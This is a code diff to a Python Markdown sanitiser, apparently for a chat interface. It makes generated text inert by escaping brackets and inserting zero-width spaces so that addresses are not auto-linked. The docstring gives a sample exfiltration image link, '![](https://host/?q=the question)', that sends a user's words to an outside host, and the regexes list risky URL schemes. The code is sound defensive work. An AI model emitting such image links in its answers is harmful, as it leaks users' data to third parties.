@@ -5,11 +5,12 @@ carry an image (``![](https://host/?q=the question)``: the browser fetches it th
 answer is drawn, sending the user's words to that host) or a link dressed up as something
 else. :func:`inert_markdown` makes every such construct plain text before rendering: brackets
 and backslashes are escaped, so no image, link or reference definition can form, however the
-brackets are nested or escaped, and web addresses are escaped so they are not turned into
-links automatically. Code spans are left as they are unless they hold any of that, because a
-span the renderer does not read as code (one left open across a paragraph) would be live
-Markdown. What the reader sees is the text as written. Addresses on an allow-list
-(none by default) are the only exception: a Markdown link to such a host stays a link.
+brackets are nested or escaped, and web and mail addresses get an invisible break (a zero-width
+space after ``https:``, ``www`` or ``@``) so they are not turned into links automatically.
+Code spans are left as they are unless they hold any of that, because a span the renderer does
+not read as code (one left open across a paragraph) would be live Markdown. What the reader
+sees is the text as written. Addresses on an allow-list (none by default) are the only
+exception: a Markdown link to such a host stays a link.
 
 :func:`terminal_text` does the same for a terminal: escape sequences, control characters and
 direction overrides are shown as visible escapes, so a file name cannot clear the screen or
@@ -24,9 +25,15 @@ from urllib.parse import urlsplit
 
 # "[text](https://host/...)" with plain text: what an allowed link looks like.
 _LINK = re.compile(r"\[([^\[\]\\\n]{1,200})\]\((https://[^\s()<>\\]{1,500})\)")
-_AUTOLINK = re.compile(r"(?i)\b(https?|ftp|mailto|file|data|javascript)(:)|\b(www)(\.)")
+_AUTOLINK = re.compile(
+    r"(?i)\b(?:https?|ftp|file):(?=//)|\b(?:mailto|xmpp):(?=\S)|\bwww(?=\.)"
+    r"|(?<=\w)@(?=[\w-]+\.\w)"
+)
+_ZWSP = "\u200b"
 _CODE = re.compile(r"(```.*?```|`[^`\n]*`)", re.S)  # as ui/common.py splits code from prose
-_RISKY = re.compile(r"[\[\]\\]|(?i:https?|ftp|mailto|file|data|javascript):|(?i:www)\.|\n\s*\n")
+_RISKY = re.compile(
+    r"[\[\]\\@]|(?i:https?|ftp|mailto|file|data|javascript|xmpp):|(?i:www)\.|\n\s*\n"
+)
 _ESCAPES = str.maketrans({"\\": "\\\\", "[": "\\[", "]": "\\]"})
 _TERMINAL = re.compile(
     r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b-\u200f\u2028\u2029"
@@ -63,8 +70,10 @@ def inert_markdown(text: str, allow: Iterable[str] = ()) -> str:
 
 def _inert(text: str) -> str:
     text = text.translate(_ESCAPES)
-    # "https:" -> "https\:" and "www." -> "www\.": still read the same, never auto-linked.
-    return _AUTOLINK.sub(lambda m: f"{m[1]}\\{m[2]}" if m[1] else f"{m[3]}\\{m[4]}", text)
+    # A zero-width space after "https:", "www" or the "@" of an address: the text reads the same,
+    # but a renderer that turns addresses in plain text into links (GFM) no longer sees one.
+    # (A backslash escape is not enough: the linking runs on the text after escapes are read.)
+    return _AUTOLINK.sub(lambda m: m.group(0) + _ZWSP, text)
 
 
 def _allowed(url: str, hosts: tuple[str, ...]) -> bool:
